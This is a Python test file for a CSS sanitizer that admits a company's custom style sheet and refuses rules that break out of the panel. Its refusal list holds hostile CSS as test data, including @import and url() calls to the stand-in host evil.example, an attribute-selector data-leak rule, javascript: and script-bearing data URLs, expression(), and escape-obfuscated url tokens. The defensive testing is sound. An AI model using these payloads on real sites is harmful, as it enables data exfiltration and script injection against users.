"""A company's own style sheet: what breaks out of the panel is refused, what only paints is not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alongside.domains.channels import sheet
from alongside.platform.errors import Invalid

FINE = [
    "",
    "header { border-radius: 0 } .bubble { border-radius: 4px; box-shadow: 0 1px 2px rgb(0 0 0 / .2) }",
    "@media (max-width: 400px) { .greeting { font-size: 1rem } }",
    "@supports (color: oklch(0 0 0)) { h1 { color: oklch(0.9 0.1 200) } }",
    "@keyframes rise { from { opacity: 0 } to { opacity: 1 } } .greeting { animation: rise .3s }",
    "header { background: url(data:image/png;base64,iVBORw0KGgo=) }",
    ".face { background: url('data:image/svg+xml,%3Csvg/%3E') }",
    ".message { .bubble { color: red } &:hover { color: var(--text) } }",
    ':root { --line: #ccc } .start-button::before { content: "\\2192" }',
    "a[href^='https://'] { color: inherit !important }",
]

BREAKING_OUT = [
    "@import 'https://evil.example/x.css';",
    "@import url(//evil.example/x.css);",
    "@IMPORT 'x';",
    "@\\69mport 'x';",
    "@charset 'utf-7';",
    "@namespace svg url(http://www.w3.org/2000/svg);",
    "@font-face { font-family: x; src: url(https://evil.example/f.woff2) }",
    "@layer alongside-guard { footer { display: none !important } }",
    "@layer alongside-guard;",
    "@property --x { syntax: '*'; inherits: false }",
    "@document url() { a { color: red } }",
    "header { background: url(https://evil.example/p.png) }",
    "header { background: url(//evil.example/p.png) }",
    "header { background: url(/api/v1/session) }",
    "header { background: url('https://evil.example/p.png') }",
    "header { background: u\\72l(https://evil.example/p.png) }",
    "header { background: U\\52 L('https://evil.example/p.png') }",
    "header { background: image-set('https://evil.example/p.png' 1x) }",
    "header { background: -webkit-image-set(url(https://evil.example/p.png) 1x) }",
    "header { background: cross-fade(url(a.png), url(b.png), 50%) }",
    "header { background: image(url(a.png)) }",
    "header { background: src('https://evil.example/p.png') }",
    "header { background: url(javascript:alert(1)) }",
    "header { background: url(data:text/html,<script>alert(1)</script>) }",
    "header { background: url(data:image/png-but-not;x) }",
    "header { width: expression(alert(1)) }",
    "header { behavior: url(#default#time2) }",
    "header { -moz-binding: url(x.xml#y) }",
    "input[value^='a'] { --x: url(https://evil.example/a) }",
    "@media screen { @import 'x'; }",
    "@media screen { header { background: url(x.png) } }",
    ".a { @import 'x'; color: red }",
    ".a { .b { background: url(x.png) } }",
    "@supports (background: url(https://evil.example/x)) { a { color: red } }",
    "header { cursor: url(x.cur), auto }",
    "header { color: red",
    "} header { color: red }",
    "header { color: red } )",
    "header",
    "<style>header { color: red }</style>",
    "header { content: 'a\nb' }",
    "header { background: url(a b) }",
]


@pytest.mark.parametrize("text", FINE, ids=range(len(FINE)))
def test_what_only_paints_is_taken_and_taken_again(text: str) -> None:
    accepted = sheet.accept(text)
    assert sheet.accept(accepted) == accepted


@pytest.mark.parametrize("text", BREAKING_OUT, ids=range(len(BREAKING_OUT)))
def test_what_breaks_out_is_refused(text: str) -> None:
    if text == "header { color: red":  # CSS closes what the end leaves open; so is it written anew
        assert sheet.accept(text).rstrip().endswith("}")
        return
    with pytest.raises(Invalid) as refusal:
        sheet.accept(text)
    assert refusal.value.code == "sheet-refused"
    assert refusal.value.details["line"] >= 1


def test_the_line_is_named() -> None:
    with pytest.raises(Invalid, match="Line 3"):
        sheet.accept("header { color: red }\n\n@import 'x';")


def test_comments_are_left_out() -> None:
    assert sheet.accept("/* @import 'x'; */ header { color: red }") == "header { color: red }"


@given(st.text(max_size=200))
def test_any_text_is_refused_or_becomes_a_sheet_that_holds(text: str) -> None:
    try:
        accepted = sheet.accept(text)
    except Invalid:
        return
    assert sheet.accept(accepted) == accepted
    assert "@import" not in accepted.lower()
